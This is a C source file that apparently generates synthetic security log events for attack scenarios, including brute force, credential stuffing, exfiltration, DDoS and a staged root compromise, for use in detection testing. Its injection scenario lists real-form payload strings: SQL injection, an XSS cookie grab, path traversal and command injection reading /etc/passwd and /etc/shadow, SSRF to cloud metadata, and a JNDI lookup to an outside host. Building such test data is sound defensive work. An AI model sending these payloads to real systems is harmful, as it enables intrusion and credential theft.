/* SPDX-License-Identifier: Apache-2.0 */
/* tested by: test/e2e/simulate.py */
/* The scenes of the simulation. */
#include "app/scenario.h"

#include <stdio.h>

#include "base/clock.h"

static void
say(const struct scenario_play *p, int64_t t, const struct saying *s)
{
	struct saying full = *s;

	full.drill = p->name;
	full.host = s->host != NULL ? s->host : p->host;
	full.app = s->app != NULL ? s->app : "shop";
	p->say(p->ctx, t, &full);
}

static void
login(const struct scenario_play *p, int64_t t, const char *ip, const char *user, bool good)
{
	say(p, t,
	    &(struct saying){ .type = good ? "auth.login.success" : "auth.login.failed",
		.ip = ip,
		.user = user,
		.reason = good ? NULL : "invalid_password" });
}

static void
brute_force(const struct scenario_play *p, int64_t gap)
{
	static const char *const users[] = { "admin", "root", "operator" };

	for (unsigned i = 0; i < 40; i++)
		login(p, i * gap, "203.0.113.211", users[i % ARRAY_LEN(users)], false);
}

/* Stolen pairs of name and password: many names, two of them right. */
static void
credential_stuffing(const struct scenario_play *p, int64_t gap)
{
	char user[32];

	for (unsigned i = 0; i < 120; i++) {
		(void)snprintf(user, sizeof(user), "customer%03u", i * 37 % 997);
		login(p, i * gap, "203.0.113.212", user, i == 57 || i == 101);
	}
}

/* One password, many names, from a few addresses. */
static void
password_spraying(const struct scenario_play *p, int64_t gap)
{
	char user[32], ip[32];

	for (unsigned i = 0; i < 60; i++) {
		(void)snprintf(user, sizeof(user), "employee%02u", i);
		(void)snprintf(ip, sizeof(ip), "198.51.100.%u", 201 + i / 20);
		login(p, i * gap, ip, user, false);
	}
}

static void
impossible_travel(const struct scenario_play *p, int64_t gap)
{
	static const struct saying places[] = {
		{ .ip = "203.0.113.214", .country = "NL", .lat = 52.37, .lon = 4.9 },
		{ .ip = "198.51.100.215", .country = "JP", .lat = 35.68, .lon = 139.69 },
	};

	for (unsigned i = 0; i < 6; i++) {
		struct saying s = places[i / 4];

		s.type = "auth.login.success";
		s.user = "sim.traveller";
		say(p, i * gap, &s);
	}
}

static void
injection(const struct scenario_play *p, int64_t gap)
{
	static const char *const queries[] = {
		"id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--%20",
		"q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
		"file=../../../../etc/passwd",
		"host=127.0.0.1;cat%20/etc/shadow",
		"url=http://169.254.169.254/latest/meta-data/iam/",
		"name=%24%7Bjndi:ldap://203.0.113.216/a%7D",
		"id=1%20AND%20SLEEP(5)--%20",
	};

	for (unsigned i = 0; i < 21; i++)
		say(p, i * gap,
		    &(struct saying){ .type = "http.request",
			.ip = "203.0.113.216",
			.path = "/api/search",
			.query = queries[i % ARRAY_LEN(queries)],
			.status = 400,
			.ms = 9 });
}

/* Orders read one after the other, 2.5 MB each, then an export. */
static void
exfiltration(const struct scenario_play *p, int64_t gap)
{
	char path[64], object[32];

	for (unsigned i = 0; i < 79; i++) {
		(void)snprintf(object, sizeof(object), "%u", 4200 + i);
		(void)snprintf(path, sizeof(path), "/api/orders/%s", object);
		say(p, i * gap,
		    &(struct saying){ .type = "http.request",
			.ip = "203.0.113.217",
			.user = "sim.insider",
			.path = path,
			.object = object,
			.bytes_out = 2500000,
			.ms = 40 });
	}
	say(p, 79 * gap,
	    &(struct saying){ .type = "data.export",
		.ip = "203.0.113.217",
		.user = "sim.insider",
		.resource = "customers",
		.records = 25000,
		.bytes_out = 40000000 });
}

static void
api_abuse(const struct scenario_play *p, int64_t gap)
{
	for (unsigned i = 0; i < 1500; i++)
		say(p, i * gap,
		    &(struct saying){ .type = "http.request",
			.ip = "203.0.113.218",
			.user = "sim.scraper",
			.api_key = "sim-key-1",
			.path = i % 50 == 0 ? "/api/portfolio" : "/api/prices",
			.ms = 6 });
}

/* Two hundred addresses at once, most of them refused. */
static void
ddos(const struct scenario_play *p, int64_t gap)
{
	char ip[32];

	for (unsigned i = 0; i < 3000; i++) {
		(void)snprintf(ip, sizeof(ip), "198.51.100.%u", 1 + i % 200);
		say(p, i * gap,
		    &(struct saying){ .type = i % 3 == 0 ? "http.request" : "rate_limit.exceeded",
			.ip = ip,
			.path = "/api/orders",
			.status = i % 3 == 0 ? 503 : 429,
			.ms = 300 });
	}
}

static void
unauthorized_access(const struct scenario_play *p, int64_t gap)
{
	static const char *const paths[] = { "/admin/users", "/api/payments/export",
		"/admin/settings", "/api/audit" };

	for (unsigned i = 0; i < 16; i++)
		say(p, i * gap,
		    &(struct saying){ .type = "authz.denied",
			.ip = "203.0.113.220",
			.user = "sim.curious",
			.path = paths[i % ARRAY_LEN(paths)],
			.resource = paths[i % ARRAY_LEN(paths)],
			.status = 403 });
	for (unsigned i = 0; i < 8; i++)
		say(p, (16 + i) * gap,
		    &(struct saying){ .type = "auth.login.failed",
			.ip = "203.0.113.220",
			.user = "admin",
			.role = "admin",
			.reason = "invalid_password" });
}

/* Guessed password, root, a new account, changed files, data out. */
static void
system_compromise(const struct scenario_play *p, int64_t gap)
{
	static const struct saying then[] = {
		{ .type = "auth.login.success", .user = "root" },
		{ .type = "auth.sudo.success", .user = "root", .message = "COMMAND=/bin/bash" },
		{ .type = "auth.user.created",
		    .user = "sysupdate",
		    .message = "new user: sysupdate" },
		{ .type = "auth.group.changed", .user = "sysupdate", .message = "added to sudo" },
		{ .type = "file.integrity.changed", .file = "/etc/passwd" },
		{ .type = "file.integrity.changed", .file = "/usr/bin/sshd" },
		{ .type = "auth.token.tampering", .user = "root" },
		{ .type = "data.export", .user = "root", .records = 90000, .bytes_out = 400000000 },
	};

	for (unsigned i = 0; i < 30; i++)
		login(p, i * gap, "203.0.113.221", "root", false);
	for (unsigned i = 0; i < ARRAY_LEN(then); i++) {
		struct saying s = then[i];

		s.ip = "203.0.113.221";
		say(p, (30 + i) * gap, &s);
	}
}

static const struct scenario scenarios[] = {
	{ "brute_force", "one address guesses the passwords of three accounts", 1, 40,
	    brute_force },
	{ "credential_stuffing", "one address tries stolen pairs of name and password", 0.4, 120,
	    credential_stuffing },
	{ "password_spraying", "few addresses try one password on many accounts", 0.3, 60,
	    password_spraying },
	{ "impossible_travel", "one user logs in from Amsterdam and Tokyo", 0.01, 6,
	    impossible_travel },
	{ "injection", "SQL, script, path, command, SSRF and JNDI payloads in requests", 0.5, 21,
	    injection },
	{ "exfiltration", "objects read in order, 200 MB in all, then an export", 0.1, 80,
	    exfiltration },
	{ "api_abuse", "one key asks for the same thing 30 times a second", 30, 1500, api_abuse },
	{ "ddos", "200 addresses at once", 60, 3000, ddos },
	{ "unauthorized_access", "doors tried that are closed, then the administrator's login", 0.2,
	    24, unauthorized_access },
	{ "system_compromise", "guessed root login, new account, changed files, data out", 0.2, 38,
	    system_compromise },
};

const struct scenario *
scenario_at(size_t i)
{
	return i < ARRAY_LEN(scenarios) ? &scenarios[i] : NULL;
}

const struct scenario *
scenario_find(struct str name)
{
	for (size_t i = 0; i < ARRAY_LEN(scenarios); i++)
		if (str_eq(name, str_c(scenarios[i].name)))
			return &scenarios[i];
	return NULL;
}
